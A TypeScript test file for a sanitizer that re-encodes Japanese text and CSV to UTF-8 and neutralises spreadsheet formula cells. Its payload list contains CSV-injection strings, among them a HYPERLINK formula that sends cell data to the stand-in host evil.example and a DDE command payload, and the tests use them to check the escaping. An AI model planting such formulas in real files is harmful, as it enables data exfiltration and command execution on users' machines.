/**
 * sanitizeTextFile: Japanese text and CSV come out as UTF-8 (CSV with a BOM), formula cells neutralised with a
 * leading apostrophe whatever their quoting, plain numbers untouched, binary data and oversized files refused
 * with a ConversionError naming the cause.
 */
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { MAX_TEXT_FILE_BYTES, sanitizeTextFile } from '../../../src/sanitize/text-file.ts';
import { ConversionError } from '../../../src/sanitize/types.ts';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** The cells of a CSV written by sanitizeTextFile (RFC 4180: quoted fields, doubled quotes, CRLF records). */
function cells(out: Buffer): string[][] {
  expect(out.subarray(0, 3)).toEqual(BOM);
  const text = out.subarray(3).toString('utf8');
  expect(text.endsWith('\r\n')).toBe(true);
  const records: string[][] = [];
  const re = /("(?:[^"]|"")*"|[^,\r\n"]*)(,|\r\n)/gy;
  let record: string[] = [];
  for (let m = re.exec(text); m; m = re.exec(text)) {
    const f = m[1]!;
    record.push(f.startsWith('"') ? f.slice(1, -1).replaceAll('""', '"') : f);
    if (m[2] === '\r\n') {
      records.push(record);
      record = [];
    }
  }
  expect(re.lastIndex === 0 && records.map((r) => r.length).reduce((a, b) => a + b, 0) > 0).toBe(true);
  return records;
}

function conversionError(fn: () => unknown): ConversionError {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ConversionError);
    return err as ConversionError;
  }
  throw new Error('no ConversionError thrown');
}

describe('CSV', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&A1,"詳細")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1)', '\t=1', '\r=1', ' =1+1', '"=1"', "'=1", '＝SUM(A1)'];

  it('formula cells get a leading apostrophe, in quoted and unquoted fields alike', () => {
    const csv = ['名前,式,備考', ...PAYLOADS.map((p, i) => `行${i},"${p.replaceAll('"', '""')}",${/[",\r\n]/.test(p) ? '"x"' : p}`)].join('\r\n');
    const out = cells(sanitizeTextFile(Buffer.from(csv, 'utf8'), 'utf-8', 'csv'));
    expect(out[0]).toEqual(['名前', '式', '備考']);
    PAYLOADS.forEach((p, i) => {
      expect(out[i + 1]![1]).toBe(`'${p}`);
      if (!/[",\r\n]/.test(p)) expect(out[i + 1]![2]).toBe(`'${p}`);
    });
  });

  it('plain numbers, negative ones included, and ordinary text are left as they are', () => {
    const out = cells(sanitizeTextFile(Buffer.from('-5,"-1,234.5",+3,12-3,a=b,メール@city\r\n'), null, 'csv'));
    expect(out).toEqual([['-5', '-1,234.5', '+3', '12-3', 'a=b', 'メール@city']]);
  });

  it('Shift_JIS CSV (no charset given) is re-encoded to UTF-8 with a BOM, the Japanese kept', () => {
    const rows = ['氏名,所属,内線', '髙橋　一郎,㈱総務課①,－1234', '﨑山　花子,"企画課, 広報係",～5678'];
    const out = sanitizeTextFile(iconv.encode(rows.join('\r\n'), 'cp932'), null, 'csv');
    expect(cells(out)).toEqual([
      ['氏名', '所属', '内線'],
      ['髙橋　一郎', '㈱総務課①', "'－1234"],
      ['﨑山　花子', '企画課, 広報係', '～5678'],
    ]);
  });

  it('labelled Shift_JIS and EUC-JP CSV read the same', () => {
    const csv = '品名,数量\r\nりんご,10\r\n';
    const expected = [['品名', '数量'], ['りんご', '10']];
    expect(cells(sanitizeTextFile(iconv.encode(csv, 'cp932'), 'Shift_JIS', 'csv'))).toEqual(expected);
    expect(cells(sanitizeTextFile(iconv.encode(csv, 'euc-jp'), 'EUC-JP', 'csv'))).toEqual(expected);
  });

  it('quoted fields with line ends and doubled quotes survive; LF and CR records become CRLF', () => {
    const out = sanitizeTextFile(Buffer.from('a,"複数\n行",c\n"say ""hi""",=x\r'), null, 'csv');
    expect(out.subarray(3).toString('utf8')).toBe('a,"複数\n行",c\r\n"say ""hi""",\'=x\r\n');
  });

  it('tab-separated data sent as CSV is recognised and neutralised per cell', () => {
    const out = sanitizeTextFile(Buffer.from('a\tb\n=1+1\t-2+3\n'), null, 'csv');
    expect(out.subarray(3).toString('utf8')).toBe("a\tb\r\n'=1+1\t'-2+3\r\n");
  });

  it('an unclosed quote runs to the end as one field', () => {
    const out = sanitizeTextFile(Buffer.from('x,"=open\nmore'), null, 'csv');
    expect(out.subarray(3).toString('utf8')).toBe('x,"\'=open\nmore"\r\n');
  });

  it('an empty CSV is just the BOM', () => {
    expect(sanitizeTextFile(Buffer.alloc(0), null, 'csv')).toEqual(BOM);
  });
});

describe('text', () => {
  it('ISO-2022-JP text becomes UTF-8 without a BOM, CRLF line ends, controls dropped', () => {
    const jis = Buffer.from('\x1b$B$*@$OC$K$J$j$^$9!#\x1b(B\nline2\x1b(B\x07\r\n', 'latin1');
    expect(sanitizeTextFile(jis, 'ISO-2022-JP', 'text').toString('utf8')).toBe('お世話になります。\r\nline2\r\n');
  });

  it('Shift_JIS text with no label, and UTF-16 with a BOM, become UTF-8', () => {
    expect(sanitizeTextFile(iconv.encode('議事録①\n', 'cp932'), null, 'text').toString('utf8')).toBe('議事録①\r\n');
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('議事録\n', 'utf16le')]);
    expect(sanitizeTextFile(utf16, null, 'text').toString('utf8')).toBe('議事録\r\n');
  });

  it('formulas are not touched in plain text', () => {
    expect(sanitizeTextFile(Buffer.from('=1+1\n'), null, 'text').toString('utf8')).toBe('=1+1\r\n');
  });
});

describe('refused', () => {
  it('binary data with NUL bytes (a PNG header): conversion-failed, naming the cause', () => {
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const err = conversionError(() => sanitizeTextFile(png, null, 'text'));
    expect(err.reason).toBe('conversion-failed');
    expect(err.message).toMatch(/NUL/);
  });

  it('binary data full of control bytes but no NUL: conversion-failed', () => {
    const data = Buffer.from(Array.from({ length: 4096 }, (_, i) => 1 + (i % 31)));
    expect(conversionError(() => sanitizeTextFile(data, null, 'csv')).reason).toBe('conversion-failed');
  });

  it('bytes a UTF-8 byte-order mark promises but that are not UTF-8: conversion-failed', () => {
    const data = Buffer.concat([BOM, Buffer.from(Array.from({ length: 4096 }, (_, i) => (i % 3 ? 0xff : 0x41)))]);
    const err = conversionError(() => sanitizeTextFile(data, null, 'text'));
    expect(err.reason).toBe('conversion-failed');
    expect(err.message).toMatch(/undecodable/);
  });

  it(`over ${MAX_TEXT_FILE_BYTES} bytes: too-large`, () => {
    const err = conversionError(() => sanitizeTextFile(Buffer.alloc(MAX_TEXT_FILE_BYTES + 1, 0x61), null, 'text'));
    expect(err.reason).toBe('too-large');
  });
});
